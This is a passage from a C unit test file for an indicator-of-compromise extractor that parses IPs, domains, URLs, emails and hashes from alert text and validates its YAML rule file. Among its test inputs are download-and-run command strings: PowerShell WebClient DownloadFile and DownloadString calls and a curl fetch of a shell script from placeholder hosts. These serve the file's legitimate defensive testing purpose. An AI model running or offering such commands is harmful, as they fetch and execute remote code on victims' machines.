/* tests/engine/test_extract.c - the shared rule file and free-text extraction. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "ioc.h"

#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static eng_rules_t *g_rules;

static int setup(void **state)
{
    (void)state;
    const char *root = getenv("ALERTMAP_SOURCE_ROOT");
    char path[4096];
    snprintf(path, sizeof(path), "%s/mappings/rules/indicators.yaml", root ? root : ".");
    am_diags_t d;
    am_diags_init(&d);
    int rc = eng_rules_load(&g_rules, path, &d);
    am_diags_print(&d, stderr);
    am_diags_dispose(&d);
    return rc;
}

static int teardown(void **state)
{
    (void)state;
    eng_rules_free(g_rules);
    return 0;
}

/* "type:value\n" per indicator, in order. */
static char *scan(am_arena_t *a, const char *text, unsigned mask)
{
    eng_indicator_t *out = NULL;
    size_t n = 0;
    assert_int_equal(eng_extract_text(&out, &n, g_rules, text, strlen(text), mask, "f", a), 0);
    char *s = am_arena_strdup(a, "");
    for (size_t i = 0; i < n; i++)
        s = am_arena_printf(a, "%s%s:%s\n", s, eng_ioc_type_name(out[i].type), out[i].value);
    return s;
}

typedef struct {
    const char *text, *want;
} scan_case_t;

#define H64 "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
#define H40 "da39a3ee5e6b4b0d3255bfef95601890afd80709"
#define H32 "d41d8cd98f00b204e9800998ecf8427e"

static const scan_case_t scans[] = {
    /* ip */
    {"connection from 203.0.113.9 to 10.0.0.5", "ip:203.0.113.9\nip:10.0.0.5\n"},
    {"dst=203.0.113.9:4444.", "ip:203.0.113.9\n"},
    {"peer 1.2.3.4, then 5.6.7.8; done", "ip:1.2.3.4\nip:5.6.7.8\n"},
    {"range 10.0.0.1-10.0.0.5", "ip:10.0.0.1\nip:10.0.0.5\n"},
    {"(192.168.1.1)", "ip:192.168.1.1\n"},
    {"1.2.3.4.5 999.1.1.1 01.2.3.4 1.2.3", ""},
    {"Windows 10.0.19041.1 build", ""},
    {"OID 1.3.6.1.4.1.311.21.8 and v1.2.3.4", ""},
    {"version 1.2.3.4, Version: 5.6.7.8, build=9.9.9.9, ver 1.1.1.1 but at 2.2.2.2",
     "ip:2.2.2.2\n"},
    {"at 10:00:00 from 00:1a:2b:3c:4d:5e", ""},
    {"v6 [2001:db8::1]:443 and fe80::1%eth0 and ::1.", "ip:2001:db8::1\nip:fe80::1\nip:::1\n"},
    {"addr 2001:0DB8:0:0:0:0:0:1: refused", "ip:2001:db8::1\n"},
    {"std::vector and ad::be and Foo::Bar", ""},
    {"mapped ::ffff:192.0.2.1 ok", "ip:::ffff:192.0.2.1\n"},
    {"203[.]0[.]113[.]7", "ip:203.0.113.7\n"},
    /* domain */
    {"beacon to evil.example.com and EVIL.ORG.", "domain:evil.example.com\ndomain:evil.org\n"},
    {"evil[.]com and bad(dot)net", "domain:evil.com\ndomain:bad.net\n"},
    {"see Google.com", "domain:google.com\n"},
    {"opened invoice.pdf and setup.exe, report.docx, payload.zip, README.md, x.sh", ""},
    {"[System.Net.WebClient]::new() and System.IO.File", ""},
    {"host ws-01.corp.local and server.internal", ""},
    {"visit xn--bcher-kva.de or bücher.de", "domain:xn--bcher-kva.de\n"},
    {"\xe2\x80\x9c"
     "evil.example.net"
     "\xe2\x80\x9d said",
     "domain:evil.example.net\n"},
    {"path C:\\Users\\bob\\evil.com.exe and /var/www/site.com", ""},
    {"e.g. i.e. 3.14 a.b", ""},
    {"co.uk alone", ""},
    {"process.name : powershell.exe and user.name = root", ""},
    {"user.name=bob user.email:x host.name: ws1 {\"dns.question.name\":\"evil.com\"} evil.org:443",
     "domain:evil.com\ndomain:evil.org\n"},
    /* url */
    {"download hxxp://evil[.]com/a.exe now", "url:http://evil.com/a.exe\ndomain:evil.com\n"},
    {"(see https://en.wikipedia.org/wiki/Foo_(bar)).",
     "url:https://en.wikipedia.org/wiki/Foo_(bar)\ndomain:en.wikipedia.org\n"},
    {"<https://evil.com/x>, \"http://1.2.3.4:8080/p?q=1\"",
     "url:https://evil.com/x\ndomain:evil.com\nurl:http://1.2.3.4:8080/p?q=1\nip:1.2.3.4\n"},
    {"HTTPS://Evil.COM/Path", "url:https://evil.com/Path\ndomain:evil.com\n"},
    {"http://intranet.corp.local/x", "url:http://intranet.corp.local/x\n"},
    {"fxp://files.example.org/f", "url:ftp://files.example.org/f\ndomain:files.example.org\n"},
    {"http://evil.com/a http://evil.com/b",
     "url:http://evil.com/a\ndomain:evil.com\nurl:http://evil.com/b\n"},
    {"xhttp://evil.com", "domain:evil.com\n"}, /* no url scheme: the host only */
    {"http://evil.com/a\x01"
     "b and https://evil.org/\xc2\xa0x",
     "url:http://evil.com/a\ndomain:evil.com\nurl:https://evil.org/\ndomain:evil.org\n"},
    /* email and account */
    {"from Bob.Smith@Example.COM and mailto:alice@evil.org",
     "email:bob.smith@example.com\nemail:alice@evil.org\n"},
    {"bob[at]evil[.]com", "email:bob@evil.com\n"},
    {"krbtgt for BOB@CORP.LOCAL", "account:bob@corp.local\n"},
    {"logon CORP\\Bob and CORP\\\\alice and NT AUTHORITY\\SYSTEM",
     "account:corp\\bob\naccount:corp\\alice\naccount:nt authority\\system\n"},
    {"machine CORP\\WS01$ logged on", "account:corp\\ws01$\n"},
    {"j\xc3\xb6rg@example.com and CORP\\j\xc3\xb6rg and M\xc3\xbcller\\x",
     "account:corp\\j\xc3\xb6rg\naccount:m\xc3\xbcller\\x\n"},
    {"\xc3\xa4" H32 " and \xc3\xa4 " H32, "hash_md5:" H32 "\n"},
    {"-OutFile $env:TEMP\\a.ps1 and %APPDATA%\\x.exe", ""},
    {"C:\\Users\\bob \\\\srv\\share HKLM\\Software\\Microsoft HKCU\\Run C:\\Windows\\x.dll", ""},
    /* hashes */
    {"sha256 " H64 " sha1 " H40 " md5 " H32,
     "hash_sha256:" H64 "\nhash_sha1:" H40 "\nhash_md5:" H32 "\n"},
    {"UPPER E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
     "hash_sha256:" H64 "\n"},
    {"63: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85", ""},
    {"65: " H64 "0 and 41: " H40 "a", ""},
    {"glued x" H32 " and " H32 "g", ""},
    {"hash=" H32 ";", "hash_md5:" H32 "\n"},
    {"num 12345678901234567890123456789012 pad 00000000000000000000000000000000", ""},
    /* dedup */
    {"1.2.3.4 1.2.3.4 1[.]2[.]3[.]4", "ip:1.2.3.4\n"},
    {"", ""},
};

static void test_scan_table(void **state)
{
    (void)state;
    am_arena_t *a = am_arena_new(8192, 0);
    int failures = 0;
    for (size_t i = 0; i < AM_ARRAY_LEN(scans); i++) {
        const char *got = scan(a, scans[i].text, IOC_MASK_ALL);
        if (strcmp(got, scans[i].want) != 0) {
            fprintf(stderr, "case %zu: %s\n--- want\n%s--- got\n%s---\n", i, scans[i].text,
                    scans[i].want, got);
            failures++;
        }
    }
    am_arena_free(a);
    assert_int_equal(failures, 0);
}

/* ---- boundary and validation rules (docs/indicators.md), one table each ---- */

static int run_cases(const char *what, const scan_case_t *cases, size_t n)
{
    am_arena_t *a = am_arena_new(8192, 0);
    int failures = 0;
    for (size_t i = 0; i < n; i++) {
        const char *got = scan(a, cases[i].text, IOC_MASK_ALL);
        if (strcmp(got, cases[i].want) != 0) {
            fprintf(stderr, "%s case %zu: %s\n--- want\n%s--- got\n%s---\n", what, i, cases[i].text,
                    cases[i].want, got);
            failures++;
        }
    }
    am_arena_free(a);
    return failures;
}

#define RUN_CASES(t) assert_int_equal(run_cases(#t, t, AM_ARRAY_LEN(t)), 0)

/* A quote, parenthesis, bracket or brace that opens right before a url
 * closes it; a backtick ends it; "](" splits a Markdown link. */
static const scan_case_t url_ends[] = {
    {"iex (New-Object Net.WebClient).DownloadFile('http://cdn.contoso.com/a.exe','x')",
     "url:http://cdn.contoso.com/a.exe\ndomain:cdn.contoso.com\n"},
    {"see (https://contoso.com/wiki/A_(b)) here",
     "url:https://contoso.com/wiki/A_(b)\ndomain:contoso.com\n"},
    {"[link](https://contoso.com/x) and [https://contoso.org/a](https://contoso.org/b)",
     "url:https://contoso.com/x\ndomain:contoso.com\nurl:https://contoso.org/a\n"
     "domain:contoso.org\nurl:https://contoso.org/b\n"},
    {"run `curl https://contoso.com/i.sh` now",
     "url:https://contoso.com/i.sh\ndomain:contoso.com\n"},
    {"{http://contoso.com/p}", "url:http://contoso.com/p\ndomain:contoso.com\n"},
    {"x=https://contoso.com/a'b", "url:https://contoso.com/a'b\ndomain:contoso.com\n"},
    {"https://contoso.com/p\xef\xbc\x9e and \xe3\x80\x8chttps://contoso.org/\xe3\x80\x8d",
     "url:https://contoso.com/p\ndomain:contoso.com\nurl:https://contoso.org/\n"
     "domain:contoso.org\n"},
};

static void test_url_ends(void **state)
{
    (void)state;
    RUN_CASES(url_ends);
}

/* A url that fails validation still yields its host; "[/]" is a defang. */
static const scan_case_t failed_url_host[] = {
    {"http://contoso.com[/]login", "url:http://contoso.com/login\ndomain:contoso.com\n"},
    {"http://contoso.com(/)login", "domain:contoso.com\n"},
    {"hxxps://contoso.com[/login", "domain:contoso.com\n"},
    {"http://[contoso.com", "domain:contoso.com\n"},
    {"http://contoso.com\\\\share", "domain:contoso.com\n"},
    {"http://2001:db8:0:0:0:0:0:7", "ip:2001:db8::7\n"},
    {"http://user@contoso.com:99999/", "domain:contoso.com\n"},
};

static void test_failed_url_keeps_host(void **state)
{
    (void)state;
    RUN_CASES(failed_url_host);
}

/* http, https, ftp, ftps, sftp, ws and wss are urls; after any other
 * scheme only the host is reported. */
static const scan_case_t schemes[] = {
    {"sftp://files.contoso.com/in wss://ws.contoso.com/s",
     "url:sftp://files.contoso.com/in\ndomain:files.contoso.com\nurl:wss://ws.contoso.com/s\n"
     "domain:ws.contoso.com\n"},
    {"tcp://c2.contoso[.]com:443/ udp://198.51.100.7:53 ldap://dc.contoso.org/",
     "domain:c2.contoso.com\nip:198.51.100.7\ndomain:dc.contoso.org\n"},
    {"ssh://root@bastion.contoso.com:2222", "domain:bastion.contoso.com\n"},
    {"smb://[2001:db8::5]/share", "ip:2001:db8::5\n"},
    {"h__p://mangled.contoso.com/x and ://contoso.org", "domain:mangled.contoso.com\n"
                                                        "domain:contoso.org\n"},
};

static void test_schemes(void **state)
{
    (void)state;
    RUN_CASES(schemes);
}

/* Every Unicode space separates words like an ASCII space. */
static const scan_case_t unicode_spaces[] = {
    {"to\xc2\xa0"
     "contoso.com",
     "domain:contoso.com\n"},
    {"host\xe2\x80\x83"
     "contoso.org\xe2\x80\xaf"
     "then",
     "domain:contoso.org\n"},
    {"ip\xe3\x80\x80"
     "198.51.100.9\xe2\x80\xa8"
     "x",
     "ip:198.51.100.9\n"},
    {"a\xe1\x9a\x80"
     "bob@contoso.com",
     "email:bob@contoso.com\n"},
    {"no break inside: contoso\xc2\xa0.com", ""},
};

static void test_unicode_spaces(void **state)
{
    (void)state;
    RUN_CASES(unicode_spaces);
}

/* The address literal of an e-mail candidate is an ip; an address in
 * brackets is an address. */
static const scan_case_t email_literals[] = {
    {"root@198.51.100.20", "ip:198.51.100.20\n"},
    {"postmaster@[198.51.100.21]", "ip:198.51.100.21\n"},
    {"ops@[ipv6:2001:db8::22]", "ip:2001:db8::22\n"},
    {"relay [198.51.100.23] and (2001:db8::24)", "ip:198.51.100.23\nip:2001:db8::24\n"},
};

static void test_email_literals(void **state)
{
    (void)state;
    RUN_CASES(email_literals);
}

/* '#' belongs to the local part, '-' runs before it do not; '_' in the
 * domain part makes it no e-mail but never a cut-short account; spaced
 * bracket defangs join their words. */
static const scan_case_t email_edges[] = {
    {"a#b@contoso.com", "email:a#b@contoso.com\n"},
    {"-----carol@contoso.com", "email:carol@contoso.com\n"},
    {"dave@chat_srv.contoso.com", "account:dave@chat_srv.contoso.com\n"},
    {"erin@contoso [.] com", "email:erin@contoso.com\n"},
    {"frank [at] contoso.org", "email:frank@contoso.org\n"},
    {"grace {@} contoso [dot] net", "email:grace@contoso.net\n"},
    {"sub [.] contoso [.] com", "domain:sub.contoso.com\n"},
    {"meet (at) noon", ""},
    {"list [.] ", ""},
};

static void test_email_edges(void **state)
{
    (void)state;
    RUN_CASES(email_edges);
}

/* An address right after a dot is part of a longer name or number, except
 * after two or more dots (punctuation). */
static const scan_case_t ip_after_punct[] = {
    {"!?..198.51.100.30;", "ip:198.51.100.30\n"},
    {"...2001:db8::31!", "ip:2001:db8::31\n"},
    {".198.51.100.32", ""},
    {"x.198.51.100.33 and 7.198.51.100.34", ""},
};

static void test_ip_after_punctuation(void **state)
{
    (void)state;
    RUN_CASES(ip_after_punct);
}

/* A hash in a url path is a hash as well as part of the url. */
static const scan_case_t url_hashes[] = {
    {"https://scan.contoso.com/file/" H64 "/info",
     "url:https://scan.contoso.com/file/" H64 "/info\ndomain:scan.contoso.com\nhash_sha256:" H64
     "\n"},
    {"http://contoso.com/d?md5=" H32 "&x",
     "url:http://contoso.com/d?md5=" H32 "&x\ndomain:contoso.com\nhash_md5:" H32 "\n"},
    {"http://contoso.com/x" H40, "url:http://contoso.com/x" H40 "\ndomain:contoso.com\n"},
    {"http://" H32 ".contoso.com/",
     "url:http://" H32 ".contoso.com/\ndomain:" H32 ".contoso.com\n"},
};

static void test_hash_in_url_path(void **state)
{
    (void)state;
    RUN_CASES(url_hashes);
}

/* The shipped file's skip_after_alnum must not change any result. */
static void test_skip_after_alnum_is_safe(void **state)
{
    (void)state;
    const char *root = getenv("ALERTMAP_SOURCE_ROOT");
    char path[4096];
    snprintf(path, sizeof(path), "%s/mappings/rules/indicators.yaml", root ? root : ".");
    char *text;
    size_t len;
    assert_int_equal(am_read_file(&text, &len, path, 1 << 20), 0);
    const char *on = "skip_after_alnum: true";
    char *flag = strstr(text, on);
    assert_non_null(flag);
    am_buf_t b;
    am_buf_init(&b, 0);
    am_buf_append(&b, text, (size_t)(flag - text));
    am_buf_puts(&b, "skip_after_alnum: false");
    am_buf_puts(&b, flag + strlen(on));
    free(text);
    char tmpl[] = "/tmp/alertmap-rules-XXXXXX";
    int fd = mkstemp(tmpl);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, b.data, b.len), (ssize_t)b.len);
    close(fd);
    am_buf_dispose(&b);
    am_diags_t d;
    am_diags_init(&d);
    eng_rules_t *slow = NULL;
    assert_int_equal(eng_rules_load(&slow, tmpl, &d), 0);
    unlink(tmpl);
    am_arena_t *a = am_arena_new(8192, 0);
    for (size_t i = 0; i < AM_ARRAY_LEN(scans); i++) {
        eng_indicator_t *o1 = NULL, *o2 = NULL;
        size_t n1 = 0, n2 = 0;
        const char *t = scans[i].text;
        assert_int_equal(eng_extract_text(&o1, &n1, g_rules, t, strlen(t), IOC_MASK_ALL, "f", a),
                         0);
        assert_int_equal(eng_extract_text(&o2, &n2, slow, t, strlen(t), IOC_MASK_ALL, "f", a), 0);
        assert_int_equal(n1, n2);
        for (size_t k = 0; k < n1; k++)
            assert_string_equal(o1[k].value, o2[k].value);
    }
    am_arena_free(a);
    eng_rules_free(slow);
    am_diags_dispose(&d);
}

static void test_splunk_raw(void **state)
{
    (void)state;
    am_arena_t *a = am_arena_new(8192, 0);
    const char *raw =
        "2024-05-01T10:00:00.123+00:00 host=ws-01.corp.local sourcetype=WinEventLog:Security "
        "EventCode=4688 user=CORP\\jdoe src_ip=10.20.30.40 dest=203.0.113.50:443 "
        "process=\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" "
        "cmdline=\"powershell -nop -c (New-Object System.Net.WebClient).DownloadString("
        "'hxxps://cdn-update[.]example[.]net/stage2.ps1')\" "
        "sha256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08 "
        "parent=explorer.exe version=10.0.19041.1";
    assert_string_equal(scan(a, raw, IOC_MASK_ALL),
                        "account:corp\\jdoe\n"
                        "ip:10.20.30.40\n"
                        "ip:203.0.113.50\n"
                        "url:https://cdn-update.example.net/stage2.ps1\n"
                        "domain:cdn-update.example.net\n"
                        "hash_sha256:"
                        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n");
    am_arena_free(a);
}

static void test_prose_description(void **state)
{
    (void)state;
    am_arena_t *a = am_arena_new(8192, 0);
    const char *text =
        "The user alice@example.org opened invoice.pdf from a phishing mail sent by "
        "billing[at]invoices-secure[.]com. The attachment dropped setup.exe "
        "(SHA-1 " H40 ") which contacted 198.51.100.23:8080 and "
        "hxxp://198[.]51[.]100[.]23/gate.php. It used System.Net.WebClient, version "
        "2.4.1.0 of the loader, and persisted under HKCU\\Software\\Microsoft\\Windows. "
        "See https://attack.mitre.org/techniques/T1105/ (Ingress Tool Transfer).";
    assert_string_equal(scan(a, text, IOC_MASK_ALL),
                        "email:alice@example.org\n"
                        "email:billing@invoices-secure.com\n"
                        "hash_sha1:" H40 "\n"
                        "ip:198.51.100.23\n"
                        "url:http://198.51.100.23/gate.php\n"
                        "url:https://attack.mitre.org/techniques/T1105/\n"
                        "domain:attack.mitre.org\n");
    am_arena_free(a);
}

static void test_mask_and_append(void **state)
{
    (void)state;
    am_arena_t *a = am_arena_new(8192, 0);
    const char *text = "http://evil.com/x 1.2.3.4 bob@evil.org " H32;
    assert_string_equal(scan(a, text, IOC_BIT(ENG_IOC_DOMAIN)), "domain:evil.com\n");
    assert_string_equal(scan(a, text, IOC_BIT(ENG_IOC_IP) | IOC_BIT(ENG_IOC_HASH_MD5)),
                        "ip:1.2.3.4\nhash_md5:" H32 "\n");
    assert_string_equal(scan(a, text, 0), "");
    /* appending to an existing array de-duplicates against it */
    eng_indicator_t *out = NULL;
    size_t n = 0;
    assert_int_equal(
        eng_extract_text(&out, &n, g_rules, "1.2.3.4 5.6.7.8", 15, IOC_MASK_ALL, "first", a), 0);
    assert_int_equal(n, 2);
    assert_int_equal(
        eng_extract_text(&out, &n, g_rules, text, strlen(text), IOC_MASK_ALL, "second", a), 0);
    assert_int_equal(n, 6);
    assert_string_equal(out[0].source_field, "first");
    assert_string_equal(out[0].value, "1.2.3.4");
    assert_string_equal(out[2].value, "http://evil.com/x");
    assert_string_equal(out[2].source_field, "second");
    assert_non_null(strstr(out[2].origin, "indicators.yaml:"));
    /* a NULL rule set or text finds nothing */
    assert_int_equal(eng_extract_text(&out, &n, NULL, text, strlen(text), IOC_MASK_ALL, "x", a), 0);
    assert_int_equal(eng_extract_text(&out, &n, g_rules, NULL, 0, IOC_MASK_ALL, "x", a), 0);
    assert_int_equal(n, 6);
    /* an explicit origin replaces the rule's */
    ioc_vec_t v = {0};
    assert_int_equal(ioc_extract(&v, a, g_rules, "1.2.3.4", 7, IOC_MASK_ALL, "f", "m.yaml:3"), 0);
    assert_string_equal(v.items[0].origin, "m.yaml:3");
    am_arena_free(a);
}

static void test_limit(void **state)
{
    (void)state;
    am_arena_t *a = am_arena_new(65536, 0);
    am_buf_t b;
    am_buf_init(&b, 0);
    for (int i = 0; i < 1200; i++)
        am_buf_printf(&b, "10.%d.%d.1 ", i / 256, i % 256);
    assert_true(am_buf_ok(&b));
    eng_indicator_t *out = NULL;
    size_t n = 0;
    assert_int_equal(eng_extract_text(&out, &n, g_rules, b.data, b.len, IOC_MASK_ALL, "f", a),
                     AM_ELIMIT);
    assert_int_equal(n, ENG_MAX_INDICATORS);
    assert_string_equal(out[999].value, "10.3.231.1");
    am_buf_dispose(&b);
    am_arena_free(a);
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void test_pathological(void **state)
{
    (void)state;
    const char *units[] = {".", "@",  "a.", "1.", "a@", "[.]",     ":",    "a:", "\\", "a\\",
                           "-", "a-", "0",  "f",  "a",  "http://", "x.y@", "1:", "%",  "a_b."};
    size_t len = 100 * 1024;
    char *text = malloc(len + 1);
    assert_non_null(text);
    for (size_t u = 0; u < AM_ARRAY_LEN(units); u++) {
        size_t ul = strlen(units[u]);
        for (size_t i = 0; i < len; i++)
            text[i] = units[u][i % ul];
        text[len] = '\0';
        am_arena_t *a = am_arena_new(65536, 0);
        eng_indicator_t *out = NULL;
        size_t n = 0;
        double t0 = now_s();
        int rc = eng_extract_text(&out, &n, g_rules, text, len, IOC_MASK_ALL, "f", a);
        double dt = now_s() - t0;
        if (getenv("IOC_TIMING") || dt > 1.0 || (rc != 0 && rc != AM_ELIMIT))
            fprintf(stderr, "unit '%s': rc %d, %zu indicators, %.3f s\n", units[u], rc, n, dt);
        assert_true(rc == 0 || rc == AM_ELIMIT);
        assert_true(dt < 2.0);
        assert_true(n <= ENG_MAX_INDICATORS);
        assert_true(am_arena_used(a) < 8u * 1024 * 1024);
        am_arena_free(a);
    }
    free(text);
}

static uint64_t rng_state = 0x2545f4914f6cdd1du;

static uint64_t rng(void)
{
    rng_state ^= rng_state << 13;
    rng_state ^= rng_state >> 7;
    rng_state ^= rng_state << 17;
    return rng_state;
}

/* Random near-indicator text: nothing crashes, and every value found is in
 * canonical form already (a fixed point of the trusted canonicalization). */
static void test_random_text(void **state)
{
    (void)state;
    static const char *const parts[] = {
        "a",
        "Z",
        "0",
        "7",
        "255",
        "300",
        ".",
        ":",
        "::",
        "@",
        "\\",
        "/",
        "-",
        "_",
        "%",
        "[",
        "]",
        "(",
        ")",
        "[.]",
        "hxxp",
        "http://",
        "https://",
        "com",
        "co.uk",
        "local",
        "zip",
        "\xc3\xbc",
        "\xe2\x80\x9d",
        " ",
        "\n",
        "e3b0c442",
        "98fc1c149afbf4c8",
        "\"",
        "'",
        "<",
        ">",
        "NT ",
        "CORP",
        "HKLM",
        "C:",
        "Net",
        "version ",
        "=",
        "#",
        "?",
        "$",
        "\xff",
    };
    am_arena_t *a = am_arena_new(65536, 0);
    char buf[512];
    size_t found = 0;
    for (int iter = 0; iter < 20000; iter++) {
        size_t n = 0, k = 1 + rng() % 40;
        for (size_t i = 0; i < k; i++) {
            const char *p = parts[rng() % AM_ARRAY_LEN(parts)];
            size_t pl = strlen(p);
            if (n + pl >= sizeof(buf))
                break;
            memcpy(buf + n, p, pl);
            n += pl;
        }
        buf[n] = '\0';
        eng_indicator_t *out = NULL;
        size_t cnt = 0;
        assert_int_equal(eng_extract_text(&out, &cnt, g_rules, buf, n, IOC_MASK_ALL, "f", a), 0);
        for (size_t i = 0; i < cnt; i++) {
            const char *v = out[i].value;
            const char *c = eng_ioc_canonical(out[i].type, v, strlen(v), false, a);
            if (c == NULL || strcmp(c, v) != 0)
                fprintf(stderr, "'%s': %s '%s' -> '%s'\n", buf, eng_ioc_type_name(out[i].type), v,
                        c ? c : "(rejected)");
            assert_non_null(c);
            assert_string_equal(c, v);
        }
        found += cnt;
        am_arena_reset(a);
    }
    assert_true(found > 1000);
    am_arena_free(a);
}

/* One compiled rule set shared by several threads at once. */
typedef struct {
    int failures;
} thread_arg_t;

static void *scan_thread(void *p)
{
    thread_arg_t *t = p;
    am_arena_t *a = am_arena_new(8192, 0);
    for (int round = 0; round < 200 && a != NULL; round++) {
        for (size_t i = 0; i < AM_ARRAY_LEN(scans); i++) {
            eng_indicator_t *out = NULL;
            size_t n = 0;
            const char *text = scans[i].text;
            if (eng_extract_text(&out, &n, g_rules, text, strlen(text), IOC_MASK_ALL, "f", a) !=
                0) {
                t->failures++;
                continue;
            }
            size_t want = 0;
            for (const char *c = scans[i].want; *c; c++)
                want += *c == '\n';
            if (n != want)
                t->failures++;
            am_arena_reset(a);
        }
    }
    am_arena_free(a);
    return NULL;
}

static void test_threads_share_rules(void **state)
{
    (void)state;
    enum { NT = 4 };
    pthread_t th[NT];
    thread_arg_t args[NT] = {{0}};
    for (int i = 0; i < NT; i++)
        assert_int_equal(pthread_create(&th[i], NULL, scan_thread, &args[i]), 0);
    for (int i = 0; i < NT; i++) {
        pthread_join(th[i], NULL);
        assert_int_equal(args[i].failures, 0);
    }
}

/* ---- the rule file format ------------------------------------------------------- */

static char *write_tmp(const char *content)
{
    char *path = strdup("/tmp/alertmap-rules-XXXXXX");
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, content, strlen(content)), (ssize_t)strlen(content));
    close(fd);
    return path;
}

typedef struct {
    const char *yaml;
    const char *want; /* substring of the joined diagnostics: "LINE:COL: message" */
} bad_case_t;

static const bad_case_t bad_rules[] = {
    {"rules:\n  - name: x\n    type: ip\n    pattern: '(?<!\\w)1.2.3(['\n",
     ":4:29: pattern error at offset 14: missing terminating ] for character class"},
    {"rules:\n  - name: x\n    type: ip\n    pattern: \"ab{3,1}c\"\n",
     ":4:21: pattern error at offset 6: numbers out of order in {} quantifier"},
    {"rules:\n  - name: x\n    type: ip\n    pattern: abc)d\n",
     ":4:17: pattern error at offset 3: unmatched closing parenthesis"},
    {"rules:\n  - name: x\n    type: ip\n    pattern: a(b\n", ":4:17: pattern error at offset 3: "},
    {"rules:\n  - name: x\n    type: ipv4\n    pattern: a\n",
     ":3:11: unknown indicator type 'ipv4' (expected one of: ip, domain"},
    {"rules:\n  - name: x\n    type: ip\n    patern: a\n",
     ":4:5: unknown key 'patern' (expected one of: name, type, pattern, flags, host_only, "
     "description)"},
    {"rules:\n  - name: x\n    type: ip\n", ":2:5: missing key 'pattern'"},
    {"rules:\n  - type: ip\n    pattern: a\n", ":2:5: missing key 'name'"},
    {"rules:\n  - name: x\n    pattern: a\n", ":2:5: missing key 'type'"},
    {"rules:\n  - name: x\n    type: ip\n    pattern: (a)\n",
     ":4:14: pattern must not contain capturing groups"},
    {"rules:\n  - name: x\n    type: ip\n    pattern: a*\n",
     ":4:14: pattern can match the empty string"},
    {"rules:\n  - name: x\n    type: ip\n    pattern: [a]\n",
     ":4:14: 'pattern' must be a string, got a list"},
    {"rules:\n  - name: x\n    type: ip\n    pattern: a\n    flags: [caseles]\n",
     ":5:13: unknown flag 'caseles' (expected one of: caseless, extended)"},
    {"rules:\n  - name: x\n    type: ip\n    pattern: a\n    flags: caseless\n",
     ":5:12: 'flags' must be a list, got a string"},
    {"rules:\n  - name: x\n    type: ip\n    pattern: a\n  - name: x\n    type: ip\n    pattern: "
     "b\n",
     ":5:11: duplicate rule name 'x'"},
    {"rules:\n  - name: Bad Name\n    type: ip\n    pattern: a\n",
     ":2:11: bad rule name 'Bad Name'"},
    {"rules:\n  - just a string\n", ":2:5: a rule must be a mapping, got a string"},
    {"rules: []\n", ":1:8: 'rules' must be a non-empty list, got a list"},
    {"rulez: []\n",
     ":1:1: unknown key 'rulez' (expected one of: rules, skip_after_alnum, description)"},
    {"skip_after_alnum: yes\nrules:\n  - name: x\n    type: ip\n    pattern: a\n",
     ":1:19: 'skip_after_alnum' must be true or false"},
    {"- a\n", ":1:1: the rule file must be a mapping with a 'rules' list"},
    {"rules: [\n", "YAML syntax error"},
};

static void test_bad_rule_files(void **state)
{
    (void)state;
    int failures = 0;
    for (size_t i = 0; i < AM_ARRAY_LEN(bad_rules); i++) {
        char *path = write_tmp(bad_rules[i].yaml);
        am_diags_t d;
        am_diags_init(&d);
        eng_rules_t *r = (eng_rules_t *)1;
        int rc = eng_rules_load(&r, path, &d);
        char *joined = NULL;
        size_t jl = 0;
        FILE *f = open_memstream(&joined, &jl);
        am_diags_print(&d, f);
        fclose(f);
        char *want = NULL;
        if (asprintf(&want, "%s%s", path, bad_rules[i].want) < 0)
            want = NULL;
        bool ok = rc == AM_EINVAL && r == NULL && d.count > 0 && want &&
                  (strstr(joined, want) != NULL ||
                   (bad_rules[i].want[0] != ':' && strstr(joined, bad_rules[i].want)));
        if (!ok) {
            fprintf(stderr, "case %zu: rc %d, want '%s', got:\n%s", i, rc, bad_rules[i].want,
                    joined);
            failures++;
        }
        free(want);
        free(joined);
        am_diags_dispose(&d);
        unlink(path);
        free(path);
    }
    assert_int_equal(failures, 0);
}

static void test_several_errors_at_once(void **state)
{
    (void)state;
    char *path = write_tmp("rules:\n"
                           "  - name: a\n    type: nope\n    pattern: ok\n"
                           "  - name: b\n    type: ip\n    pattern: x(\n"
                           "  - name: c\n    type: ip\n    pattern: y\n    extra: 1\n");
    am_diags_t d;
    am_diags_init(&d);
    eng_rules_t *r = NULL;
    assert_int_equal(eng_rules_load(&r, path, &d), AM_EINVAL);
    assert_null(r);
    assert_int_equal(d.count, 3);
    assert_int_equal(d.items[0].line, 3);
    assert_int_equal(d.items[1].line, 7);
    assert_int_equal(d.items[2].line, 11);
    am_diags_dispose(&d);
    unlink(path);
    free(path);
}

static void test_missing_file(void **state)
{
    (void)state;
    am_diags_t d;
    am_diags_init(&d);
    eng_rules_t *r = NULL;
    assert_int_equal(eng_rules_load(&r, "/nonexistent/indicators.yaml", &d), AM_EIO);
    assert_null(r);
    assert_int_equal(d.count, 1);
    assert_non_null(strstr(d.items[0].msg, "cannot read rule file"));
    am_diags_dispose(&d);
    am_diags_init(&d);
    assert_int_equal(eng_rules_load(&r, NULL, &d), AM_EINVAL);
    assert_null(r);
    assert_int_equal(d.count, 1);
    am_diags_dispose(&d);
    eng_rules_free(NULL);
}

static void test_custom_rules_and_flags(void **state)
{
    (void)state;
    char *path = write_tmp("description: custom\n"
                           "rules:\n"
                           "  - name: tagged-host\n"
                           "    type: domain\n"
                           "    flags: [caseless, extended]\n"
                           "    pattern: |\n"
                           "      (?<=host=) [a-z0-9.-]+ # the value after host=\n"
                           "  - name: any-hash\n"
                           "    type: hash_md5\n"
                           "    pattern: '(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])'\n");
    am_diags_t d;
    am_diags_init(&d);
    eng_rules_t *r = NULL;
    int rc = eng_rules_load(&r, path, &d);
